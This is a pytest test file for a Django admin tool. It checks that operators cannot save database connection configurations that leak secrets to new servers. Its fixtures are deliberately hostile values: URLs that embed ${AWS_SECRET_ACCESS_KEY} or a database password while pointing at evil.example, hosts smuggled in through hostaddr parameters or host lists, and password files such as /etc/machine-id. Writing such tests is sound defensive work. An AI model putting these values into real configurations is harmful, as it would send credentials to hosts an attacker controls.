"""Who writes an address decides who gets the password: an operator names no new server for one, nor a new secret."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client

from mosaic_admin.access import Role
from tests.unit.tiers.conftest import ClientOf
from tiers import services
from tiers.defaults import DEFAULT_FEDERATED_CONFIG
from tiers.masking import pretty
from tiers.models import TierConfig

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("config_file")]
HOME = settings.HOME


def document(url: str, **storage: str) -> dict[str, Any]:
    made = copy.deepcopy(DEFAULT_FEDERATED_CONFIG)
    made["storage"] |= {"url": url, **storage}
    return made


def save(client: Client, made: dict[str, Any]) -> tuple[int, str]:
    response = client.post("/tiers/new/", {"name": f"n{TierConfig.objects.count()}", "document": pretty(made)})
    return response.status_code, response.content.decode()


ELSEWHERE = {
    "a variable to another host": document("postgresql://u:${MOSAIC_PG_PASSWORD}@evil.example:5433/d"),
    "a variable to an address of its own": document("postgresql://u@${HOME}.evil.example/d"),
    "another variable": document("postgresql://u:${AWS_SECRET_ACCESS_KEY}@127.0.0.1:5433/d"),
    "any file": document("postgresql://u@evil.example/d", passwordFile="/etc/machine-id"),
    "a file of the stack to another host": document(
        "postgresql://u@evil.example/d", passwordFile=str(HOME / "secrets" / "federated-postgres")
    ),
    "by a parameter": document("postgresql://u:${MOSAIC_PG_PASSWORD}@127.0.0.1:5433/d?hostaddr=192.0.2.1"),
    "one of two hosts": document("postgresql://u:${MOSAIC_PG_PASSWORD}@127.0.0.1,evil.example/d"),
    "a variable in a folder's name": {**document(""), "tier": "local"}
    | {"storage": {"type": "pglite", "dataDir": "${AWS_SECRET_ACCESS_KEY}"}}
    | {"queue": {"type": "local"}, "memory": {"type": "keyword"}},
}


@pytest.mark.parametrize("made", ELSEWHERE.values(), ids=ELSEWHERE)
def test_an_operator_sends_no_secret_to_a_new_server(client_of: ClientOf, made: dict[str, Any]) -> None:
    status, page = save(client_of(Role.OPERATOR), made)
    assert status == 422
    assert "gives a secret to a server that no configuration here gives it to" in page
    assert not TierConfig.objects.exists()
    assert "gives a secret to a server" not in save(client_of(Role.ADMIN), made)[1]


OWN = ("keys/django-secret-key", "admin-password", "control.sqlite3", "secrets/control-valkey",
       "secrets/federated-postgres-superuser", "secrets/../keys/signing-key")  # fmt: skip


@pytest.mark.parametrize("name", OWN)
@pytest.mark.parametrize("role", [Role.OPERATOR, Role.ADMIN])
def test_nobody_sends_a_secret_of_mosaic_itself_anywhere(client_of: ClientOf, role: Role, name: str) -> None:
    status, page = save(client_of(role), document("postgresql://u@127.0.0.1/d", passwordFile=str(HOME / name)))
    assert (status, "names a secret of Mosaic Admin itself" in page) == (422, True)


@pytest.mark.parametrize("name", ["DATABASE_URL", "VALKEY_URL", "MOSAIC_SECRET_KEY"])
def test_nor_a_variable_of_mosaic_itself(client_of: ClientOf, name: str) -> None:
    status, page = save(client_of(Role.ADMIN), document(f"postgresql://u:${{{name}:-x}}@127.0.0.1/d"))
    assert (status, "names a secret of Mosaic Admin itself" in page) == (422, True)


def test_what_is_in_use_may_be_used_again(client_of: ClientOf, config_file: Path) -> None:
    operator = client_of(Role.OPERATOR)
    ours = document("postgresql://u:${DB_PASSWORD}@db.example:5432/one")
    services.create_config(name="ours", document=ours)
    assert save(operator, document("postgresql://other:${DB_PASSWORD}@db.example:5432/two"))[0] == 303
    in_file = document("postgresql://u@file.example/d", passwordFile="db-password")
    config_file.write_text(pretty(in_file))
    assert save(operator, in_file)[0] == 303
    stack = document("postgresql://mosaic@127.0.0.1:6543/mosaic", passwordFile=str(HOME / "secrets/federated-postgres"))
    assert save(operator, stack)[0] == 303
    assert save(operator, document("postgresql://u:typed-by-hand@new.example/d"))[0] == 303


def test_an_edit_moves_no_secret_to_another_server(client_of: ClientOf) -> None:
    ours = services.create_config(name="ours", document=document("postgresql://u:${DB_PASSWORD}@db.example:5432/one"))
    moved = pretty(document("postgresql://u:${DB_PASSWORD}@evil.example:5432/one"))
    address = f"/tiers/{ours.pk}/edit/"
    assert client_of(Role.OPERATOR).post(address, {"document": moved, "revision": 1}).status_code == 422
    assert client_of(Role.ADMIN).post(address, {"document": moved, "revision": 1}).status_code == 303
